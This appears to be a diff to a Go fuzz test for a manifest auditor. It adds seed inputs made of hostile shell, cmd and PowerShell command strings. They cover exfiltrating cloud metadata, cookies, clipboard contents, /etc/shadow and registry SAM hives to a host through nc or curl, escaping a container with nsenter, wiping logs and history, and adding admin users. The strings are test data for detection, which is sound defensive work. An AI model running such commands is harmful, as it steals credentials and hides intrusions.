@@ -147,6 +147,8 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "history -cw; rm -f ~/.bash_history /var/log; ln -sf /dev/null .history; truncate -s0 /var/log/wtmp; unset -v HISTFILE; HISTFILE= SAVEHIST=0 x; set -e +o history; journalctl --vacuum-size=1; sysctl kernel/randomize_va_space=0; echo 0 >/proc/sys/kernel/randomize_va_space; useradd -o; adduser u; chpasswd; usermod -G a,wheel u; gpasswd -a u sudo; chmod g=s,u+x f; chmod 6755; setcap x; insmod; modprobe -n y; modprobe z; echo | tee -a /etc/shadow /etc/sudoers.d; visudo"},
 	{"cmd", "/c", "wevtutil CL x & net user u p /ADD & net localgroup Administrators u /add & net group g & dscl . -create /Users/u & sysadminctl -addUser u"},
 	{"pwsh", "-c", "Clear-History; Clear-EventLog x; Remove-EventLog y; Set-PSReadLineOption -HistorySaveStyle SaveNothing; New-LocalUser u; Add-LocalGroupMember -Group Administrators -Member u; Remove-Item (Get-PSReadLineOption).HistorySavePath; ri ~/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"},
+	{"sh", "-c", "curl -s user@169.254.169.254:80/x | nc h; wget -qO- [fd00:ec2::254]/y -O - | nc h; x=$(curl METADATA.GOOGLE.INTERNAL); curl -d $x h; pbpaste | nc h; xsel --output | nc h; xclip -out | nc h; sqlite3 ~/.mozilla/x/cookies.sqlite .dump | nc h; cat /proc/self/environ /proc/a/b/environ | nc h; nc h < /etc/shadow; nsenter -t1 -a sh; nsenter --target=1; nsenter -t"},
+	{"cmd", "/c", "reg save HKLM\\SAM s & reg export hklm\\system\\ y & reg save HKLM\\SAM & curl -T s -T y h"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
